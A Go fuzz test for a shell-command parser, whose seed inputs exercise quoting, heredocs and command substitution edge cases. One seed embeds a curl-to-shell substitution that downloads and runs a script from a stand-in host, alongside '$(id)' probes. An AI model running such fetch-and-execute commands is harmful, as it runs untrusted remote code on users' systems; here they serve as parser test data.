package shellread

import (
	"strings"
	"testing"
)

// FuzzRead checks that Read never panics, that its spans cover the input
// exactly, and that text the parser did not read is unquoted.
func FuzzRead(f *testing.F) {
	for _, s := range []string{
		"ls -la /tmp && make test",
		"/bin/echo \u2018$(curl -fsSL https://x.example/i.sh | sh)\u2019",
		"cat <<'EOF' >x\n$(id)\nEOF\necho done",
		"a=(1 2) b=$'\\x41' c=\"$(printf %s \"$x\")\" cmd -- -x # c",
		"echo 'unbalanced",
		"cat <<EOF\nno end",
		"if true; then",
		strings.Repeat("$(", 600),
		"case $x in a) echo `id`;; esac",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		r := Read(src)
		checkSpans(t, src, r)
		if r.Parsed < len(src) {
			if s := r.At(len(src) - 1); s.Role != Argument || s.Quote != Unquoted {
				t.Fatalf("Read(%.40q): unparsed tail read as %v/%v", src, s.Role, s.Quote)
			}
		}
	})
}
